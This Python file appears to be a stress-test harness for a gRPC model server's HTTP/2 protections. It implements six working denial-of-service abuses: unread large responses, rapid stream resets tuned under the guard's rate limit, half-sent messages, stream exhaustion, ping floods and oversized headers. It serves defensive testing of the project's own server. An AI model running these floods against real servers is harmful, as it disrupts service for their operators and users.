# SPDX-License-Identifier: Apache-2.0
"""What one client without credentials can do to a server while it follows the
rules of HTTP/2: its connections are those of h2, which refuses to break them.

    python3 h2_abuses.py NAME SERVER SECONDS SOURCE

runs one of ABUSES like attacks.py.
"""

import contextlib
import itertools
import json
import sys
import time

import raw_http2 as raw
from attacks import Attacker
from h2 import events
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError
from rwkv.v1 import rwkv_pb2 as pb

MESSAGE_BYTES = 15 << 20
NUM_CONNECTIONS = 8
# What Http2Guard allows is 500 per second, from all connections of a peer.
RESETS_PER_SECOND = 400


class Peer:
    """A connection of h2 to `server`, which opens no window for what it
    receives unless `reads` is set."""

    def __init__(self, server, source=None, reads=False):
        self._reads = reads
        self.http2 = H2Connection(H2Configuration(header_encoding="utf-8"))
        self.answers = {}  # the status of calls that have ended, by stream
        self._socket = raw.open_socket(server, source)
        self.http2.initiate_connection()
        self.flush()
        # Now the server's settings are known.
        self.wait(10, lambda: self.http2.remote_settings.max_header_list_size)

    def close(self):
        self._socket.close()

    def flush(self):
        """Sends what h2 has to send."""
        self._socket.settimeout(10)
        self._socket.sendall(self.http2.data_to_send())

    def wait(self, seconds, condition=lambda: False):
        """Handles what arrives until `condition` is true, for at most
        `seconds`. Returns whether it is."""
        until = time.monotonic() + seconds
        while not condition():
            left = until - time.monotonic()
            if left <= 0:
                return False
            self._socket.settimeout(left)
            with contextlib.suppress(TimeoutError):
                self._receive()
        return True

    def _receive(self):
        data = self._socket.recv(1 << 16)
        if not data:
            raise ConnectionResetError("closed by the peer")
        for event in self.http2.receive_data(data):
            if isinstance(event, events.ConnectionTerminated):
                raise ConnectionResetError("GOAWAY")
            if isinstance(event, events.DataReceived) and self._reads:
                self.http2.acknowledge_received_data(
                    event.flow_controlled_length, event.stream_id)
            elif isinstance(event, events.StreamReset):
                self.answers[event.stream_id] = "reset"
            elif isinstance(event, (events.ResponseReceived,
                                    events.TrailersReceived)):
                status = dict(event.headers).get("grpc-status")
                if status is not None:
                    self.answers[event.stream_id] = status
        self.flush()

    def call(self, method, *extra):
        """Opens a stream; returns its number. Its message is to be sent."""
        stream = self.http2.get_next_available_stream_id()
        self.http2.send_headers(stream, [
            (":method", "POST"), (":scheme", "http"),
            (":path", raw.SERVICE + method), (":authority", "rwkvd"),
            ("te", "trailers"), ("content-type", "application/grpc"), *extra])
        self.flush()
        return stream

    def send(self, stream, data, seconds, end=False):
        """Sends `data` as fast as the server's windows allow. Returns the
        number of bytes that were sent within `seconds`."""
        until = time.monotonic() + seconds
        sent = 0
        while sent < len(data) and time.monotonic() < until:
            size = min(self.http2.local_flow_control_window(stream),
                       self.http2.max_outbound_frame_size, len(data) - sent)
            if size == 0:
                self.wait(0.02)
                continue
            self.http2.send_data(stream, data[sent:sent + size],
                                 end_stream=end and sent + size == len(data))
            self.flush()
            sent += size
        return sent


class H2Attacker(Attacker):

    def connect(self, **options):
        peer = Peer(self._server, self._source, **options)
        self.counts["connections"] += 1
        return peer

    def repeat(self, abuse, **options):
        def abuse_until_refused(peer):
            try:
                abuse(peer)
            except ProtocolError as error:
                # h2 does not send what the server has forbidden.
                raise ConnectionError(error) from error
        super().repeat(abuse_until_refused, **options)

    def left(self):
        return max(0, self.until - time.monotonic())

    def connect_all(self, abuse, **options):
        """Does `abuse` on some connections, and then keeps them open."""
        peers = []
        for _ in range(NUM_CONNECTIONS):
            with contextlib.suppress(OSError):
                peers.append(self.connect(**options))
                abuse(peers[-1])
        self.hold(peers)


def unread_answers(attacker):
    """Calls with large answers, for which no window is ever opened."""
    request = pb.GenerateRequest(max_tokens=0, echo=True, echo_top_logprobs=32)
    request.prompt.tokens.ids.extend(1 + 7919 * i % 2000 for i in range(900))
    body = raw.grpc_message(request.SerializeToString())

    def abuse(peer):
        for _ in range(16):
            peer.send(peer.call("Generate"), body, attacker.left(), end=True)
            attacker.counts["calls"] += 1
    attacker.connect_all(abuse)


def resets(attacker):
    """Calls that are reset at once, at a rate that is allowed."""
    def abuse(peer):
        start = time.monotonic()
        for number in itertools.count(1):
            if attacker.over():
                return
            peer.http2.reset_stream(peer.call("Generate"), error_code=raw.CANCEL)
            attacker.counts["resets"] += 1
            due = start + number / RESETS_PER_SECOND
            peer.wait(max(0, due - time.monotonic()))
    attacker.repeat(abuse)


def half_sent_messages(attacker):
    """Messages that lack their last byte."""
    body = raw.grpc_message(bytes(MESSAGE_BYTES))[:-1]

    def abuse(peer):
        sent = peer.send(peer.call("Tokenize"), body, attacker.left())
        attacker.counts["bytes"] += sent
    attacker.connect_all(abuse)


def many_streams(attacker):
    """As many calls without a message as the server allows. h2 refuses the
    next one."""
    def abuse(peer):
        most = peer.http2.remote_settings.max_concurrent_streams
        for _ in range(most):
            peer.call("Generate")
        attacker.counts["streams"] += most
        with contextlib.suppress(ProtocolError):
            peer.call("Generate")
            attacker.counts["surplus streams"] += 1
    attacker.connect_all(abuse)


def pings(attacker):
    """Pings, as fast as the server answers them."""
    def abuse(peer):
        while not attacker.over():
            for _ in range(100):
                peer.http2.ping(bytes(8))
            peer.flush()
            attacker.counts["pings"] += 100
            peer.wait(0.001)
    attacker.repeat(abuse)


def large_headers(attacker):
    """Calls whose headers are as large as the server allows."""
    def abuse(peer):
        # An entry of the list counts 32 bytes more than its name and value.
        most = peer.http2.remote_settings.max_header_list_size
        filler = ("x-filler", "a" * (most - 1000))
        while not attacker.over():
            stream = peer.call("GetModel", filler)
            peer.send(stream, raw.grpc_message(b""), attacker.left(), end=True)
            peer.wait(attacker.left(), lambda: stream in peer.answers)
            status = peer.answers.pop(stream, "none")
            attacker.counts[f"answers with status {status}"] += 1
    attacker.repeat(abuse, reads=True)


ABUSES = {abuse.__name__: abuse for abuse in (
    unread_answers, resets, half_sent_messages, many_streams, pings,
    large_headers)}


def main(arguments):
    name, server, seconds, source = arguments
    attacker = H2Attacker(server, float(seconds), source)
    ABUSES[name](attacker)
    print(json.dumps(attacker.counts))


if __name__ == "__main__":
    main(sys.argv[1:])
